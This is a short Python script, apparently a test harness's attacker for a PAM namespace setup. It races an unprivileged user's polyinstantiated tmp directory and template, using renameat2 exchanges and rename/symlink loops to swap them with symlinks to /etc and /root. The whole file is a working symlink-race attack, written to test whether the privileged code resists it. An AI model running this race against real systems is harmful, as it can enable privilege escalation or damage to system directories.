#!/usr/bin/python3
# The racing user of attack_race.sh (issue 6, entry 4), run as that user.
#   race_attacker.py HOME STOP_FILE
# Until STOP_FILE exists, swaps the components of HOME/tmp (the polydir) and
# HOME/.inst (the template) she can touch, as fast as she can: atomic
# exchanges (renameat2 RENAME_EXCHANGE) with symlinks to /etc and /root and
# with a directory of her own that looks like a template, and plain
# rename / symlink / unlink loops. Errors (EBUSY on a mount point in her own
# session, ENOENT when another attacker got there first) are expected and
# ignored: she just tries again. Prints how many swaps succeeded.
import ctypes
import os
import sys
import time

home, stop = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2


def exchange(a, b):
    return libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) == 0


def attempt(fn, *args):
    try:
        fn(*args)
        return 1
    except OSError:
        return 0


polydir, template = f"{home}/tmp", f"{home}/.inst"
swaps = 0
i = 0
while not os.path.exists(stop):
    i += 1
    target = "/etc" if i % 2 else "/root"
    # 1. polydir <-> symlink to /etc or /root, atomically.
    attempt(os.unlink, polydir + ".evil")
    attempt(os.symlink, target, polydir + ".evil")
    swaps += exchange(polydir, polydir + ".evil")
    swaps += exchange(polydir, polydir + ".evil")
    # 2. template <-> symlink, atomically.
    attempt(os.unlink, template + ".evil")
    attempt(os.symlink, target, template + ".evil")
    swaps += exchange(template, template + ".evil")
    swaps += exchange(template, template + ".evil")
    # 3. template <-> her own look-alike (alice-owned, with a fake instance).
    swaps += exchange(template, template + ".fake")
    swaps += exchange(template, template + ".fake")
    # 4. rename loops: move the real one away, put a symlink in its place,
    # then put it back.
    for path in (polydir, template):
        if attempt(os.rename, path, path + ".moved"):
            swaps += 1
            attempt(os.symlink, target, path)
            attempt(os.unlink, path)
            attempt(os.rename, path + ".moved", path)
    # A breath with everything in place, so sessions also open (and are
    # checked) between attacks, not only fail.
    time.sleep(0.002)
print(swaps)
